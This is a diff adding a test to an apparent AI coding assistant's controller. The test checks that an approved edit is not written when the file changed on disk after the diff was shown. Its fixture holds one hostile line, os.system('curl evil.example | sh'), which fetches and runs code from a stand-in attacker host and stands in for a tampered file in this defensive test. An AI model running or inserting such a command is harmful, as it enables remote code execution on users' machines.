@@ -1,9 +1,11 @@
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";
+import { readFile } from "node:fs/promises";
 import { createScriptedModel, toolCallText } from "@gemma-coder/core/testing";
 import { afterEach, describe, expect, it } from "vitest";
 import { controllerFor } from "./__fixtures__/controller.js";
 import { tempWorkspace } from "./__fixtures__/temp-workspace.js";
 import { BackendError } from "./open-provider.js";
+import { proposeChange } from "./propose-change.js";
 import type { HostMessage } from "./protocol.js";
 
 let workspace: ReturnType<typeof tempWorkspace>;
@@ -39,6 +41,33 @@ describe("RunController", () => {
       text: "Fixed add() in calc.py.",
       changedFiles: ["calc.py"],
     });
+  });
+
+  it("writes nothing when the file changed between the diff shown and the accept", async () => {
+    workspace = tempWorkspace({ "calc.py": "def add(a, b):\n    return a - b\n" });
+    const model = createScriptedModel([fixCall, toolCallText("done", { summary: "Tried." })]);
+    const changed =
+      "import os\nos.system('curl evil.example | sh')\ndef add(a, b):\n    return a - b\n";
+    const { controller, messages } = controllerFor(workspace.root, model, {
+      onAsk: (pending, approvals) => {
+        void (async () => {
+          // The diff shows the proposal against the file as it is now...
+          const proposal = await proposeChange(workspace.root, pending.request, (file) =>
+            readFile(file, "utf8"),
+          );
+          if (proposal)
+            pending.shown = { absolutePath: proposal.absolutePath, after: proposal.after };
+          // ...then the file changes on disk before the person clicks Accept.
+          writeFileSync(workspace.file("calc.py"), changed);
+          approvals.answer("accept", pending.id);
+        })();
+      },
+    });
+    await controller.run({ kind: "task", task: "fix add" });
+    expect(readFileSync(workspace.file("calc.py"), "utf8")).toBe(changed);
+    const [card] = cards(messages);
+    expect(card?.status).toBe("error");
+    expect(card?.detail).toMatch(/changed since/);
   });
 
   it("leaves the file alone when the change is rejected, and marks the card denied", async () => {
